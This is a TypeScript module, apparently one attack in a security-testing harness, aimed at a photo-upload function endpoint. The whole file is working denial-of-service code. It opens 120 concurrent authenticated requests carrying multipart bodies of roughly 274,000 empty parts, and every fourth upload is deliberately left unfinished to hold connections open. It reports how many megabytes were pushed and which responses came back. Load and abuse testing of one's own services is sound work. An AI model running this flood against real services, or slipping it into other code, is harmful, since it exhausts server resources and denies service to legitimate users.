import { Agent, request } from 'node:http'
import type { Attack, AttackFindings } from '../attacker.ts'
import { flood } from './asking.ts'

const AT_ONCE = 120
const PARTS = 274_000
const BOUNDARY = 'x'
const EMPTY_PARTS = Buffer.from(
  `${`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n`.repeat(PARTS)}--${BOUNDARY}--\r\n`,
)

/** Uploads that are nothing but empty parts, and in turn ones that begin and never end. */
export async function attackUploads({ url, seconds, tokens }: Attack): Promise<AttackFindings> {
  const agent = new Agent({ maxSockets: AT_ONCE })
  const until = Date.now() + seconds * 1000
  let sent = 0
  const answers = await flood({ seconds, atOnce: AT_ONCE }, (n) => one(n))
  agent.destroy()
  return { answers, counts: { 'megabytes taken': Math.round(sent / 1e6) } }

  function one(n: number): Promise<string> {
    return new Promise((resolve) => {
      const headers = {
        authorization: `Bearer ${tokens[n % tokens.length]}`,
        'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
        'content-length': EMPTY_PARTS.length,
      }
      const upload = request(`${url}/functions/v1/upload-photo`, { agent, method: 'POST', headers })
      const giveUp = setTimeout(() => upload.destroy(), Math.max(500, until - Date.now()))
      let status = 0
      upload.once('response', (response) => {
        status = response.statusCode ?? 0
        response.resume()
        upload.destroy()
      })
      upload.once('error', () => {})
      upload.once('close', () => {
        clearTimeout(giveUp)
        sent += upload.socket?.bytesWritten ?? 0
        resolve(status === 0 ? 'no answer' : String(status))
      })
      if (n % 4 === 3)
        upload.write(EMPTY_PARTS.subarray(0, 1024)) // and no more
      else upload.end(EMPTY_PARTS)
    })
  }
}
